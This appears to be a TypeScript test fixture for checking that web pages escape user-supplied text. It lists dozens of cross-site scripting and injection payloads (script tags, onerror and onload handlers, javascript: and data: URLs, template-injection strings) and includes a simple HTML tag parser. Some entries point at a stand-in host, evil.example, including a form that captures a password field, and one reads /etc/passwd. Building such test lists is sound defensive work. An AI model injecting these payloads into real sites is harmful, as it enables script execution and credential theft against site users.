// Texts that have turned into markup, script or links on other people's pages (K10), and a way to see what a browser
// would make of a page: its elements and attributes, read as HTML is read.

/** Markup, or what ends an attribute, wherever it stands in a text. */
const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<a href=javascript:alert(1)>x</a>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<form action=https://evil.example><input name=password>',
  '</form><form action=https://evil.example>',
  '<button formaction=javascript:alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '" autofocus onfocus=alert(1) x="',
  "' autofocus onfocus=alert(1) x='",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '` onmouseover=alert(1) `',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<style>*{display:none}</style>',
  '</style><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</select><script>alert(1)</script>',
  '</option></select><img src=x onerror=alert(1)>',
  '<!--<script>alert(1)</script>-->',
  '--><script>alert(1)</script>',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<x onclick=alert(1)>',
  '<xss style="animation-name:x" onanimationstart=alert(1)>',
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: an attack on template engines, meant literally
  '${alert(1)}',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '＜script＞alert(1)＜/script＞',
  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '[object Object]" style="position:fixed;inset:0',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '\u202e<script>alert(1)</script>',
];

/** Harmful as the whole of an address. */
const ADDRESSES: readonly string[] = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'javascript://example.com/%0Aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'https://user:password@evil.example/',
  '//evil.example/',
  '/\\evil.example/',
  '/\t/evil.example/',
  '\\\\evil.example\\',
];

/** More than sixty; each is in every text of every page. */
export const PAYLOADS: readonly string[] = [...MARKUP, ...ADDRESSES];

const MARKUP_IN_A_TEXT = 12;

/** The texts: addresses alone, markup one behind the other. */
export const PAYLOAD_TEXTS: readonly string[] = [
  ...Array.from({ length: Math.ceil(MARKUP.length / MARKUP_IN_A_TEXT) }, (_, at) =>
    MARKUP.slice(at * MARKUP_IN_A_TEXT, (at + 1) * MARKUP_IN_A_TEXT).join(' '),
  ),
  ...ADDRESSES,
];

/** Every tag of a page with its attributes, in order. Throws where `<` opens nothing that HTML knows. */
export const readTags = (html: string): { name: string; attributes: Map<string, string> }[] =>
  [...html.matchAll(/<([^>"']*(?:"[^"]*"|'[^']*'|[^>"'])*)>/g)]
    .filter(([, inside = '']) => !inside.startsWith('/') && !inside.startsWith('!'))
    .map(([, inside = '']) => {
      const name = /^[a-z][a-z0-9-]*/.exec(inside)?.[0];
      if (name === undefined) throw new Error(`not a tag: <${inside}>`);
      const pairs = inside.slice(name.length).matchAll(/([^\s=/]+)(?:="([^"]*)")?/g);
      return { name, attributes: new Map([...pairs].map(([, key = '', value = '']) => [key.toLowerCase(), value])) };
    });
